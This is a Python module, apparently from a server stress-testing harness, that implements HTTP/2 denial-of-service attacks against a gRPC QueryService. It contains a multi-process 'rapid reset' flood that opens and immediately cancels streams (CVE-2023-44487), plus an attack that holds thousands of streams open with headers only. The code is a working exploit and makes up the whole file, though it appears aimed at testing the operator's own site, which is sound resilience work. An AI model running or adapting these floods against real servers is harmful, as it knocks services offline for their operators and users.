"""Attacks by calls that cost the caller less than the server. Each is a generator as in
connections.py."""

import multiprocessing
import time

import rpc
import sites
from hypermap.v1 import query_service_pb2

import http2
from site_under_attack import PREY

PROCESSES = 8


def _area_call():
    """Returns the header block and the body of a QueryArea of everything."""
    request = query_service_pb2.QueryAreaRequest()
    request.scope.map = PREY
    rpc.json_format.ParseDict(sites.square(-5000, -5000, 10000), request.area)
    return (http2.grpc_headers("QueryService/QueryArea"),
            http2.grpc_message(request.SerializeToString()))


def _reset_rapidly(address, seconds, go, results):
    headers, body = _area_call()
    resets = closed = 0
    cancel = http2.CANCEL.to_bytes(4, "big")
    go.wait()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            with http2.Connection(address, http2.ATTACKER, timeout_s=1) as connection:
                while time.monotonic() < end:
                    count = min(50, connection.connection_window() // len(body))
                    if count == 0:
                        connection.receive(1)
                        continue
                    frames = []
                    for _ in range(count):
                        stream = connection.new_stream()
                        frames += [http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers),
                                   http2.frame(http2.DATA, 0, stream, body),
                                   http2.frame(http2.RST_STREAM, 0, stream, cancel)]
                    connection.send(b"".join(frames))
                    connection.count_sent(count * len(body))
                    resets += count
                    connection.receive(0)
        except (http2.Closed, OSError):
            closed += 1
    results.put((resets, closed))


def rapid_reset(site):
    """A2: eight processes begin calls and cancel them at once, for 10 s (CVE-2023-44487)."""
    context = multiprocessing.get_context("spawn")
    go, results = context.Event(), context.Queue()
    processes = [context.Process(target=_reset_rapidly, daemon=True,
                                 args=(site.address, site.size(10, 2), go, results))
                 for _ in range(PROCESSES)]
    for process in processes:
        process.start()
    yield
    go.set()
    for _ in processes:
        resets, closed = results.get(timeout=60)
        site.tell("resets", resets)
        site.tell("connections lost", closed)
    for process in processes:
        process.join()
    yield


def endless_streams(site):
    """9,000 calls that send their headers and then nothing."""
    headers, _ = _area_call()
    yield
    connections = []
    for i in range(site.size(9000, 3000)):
        if i % 100 == 0:
            connections.append(http2.Connection(site.address))
        stream = connections[-1].new_stream()
        connections[-1].send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers))
        site.tell("calls that are not finished")
    while site.attacking():
        for connection in connections:
            connection.receive(0)
        time.sleep(0.05)
    for connection in connections:
        connection.close()
    yield
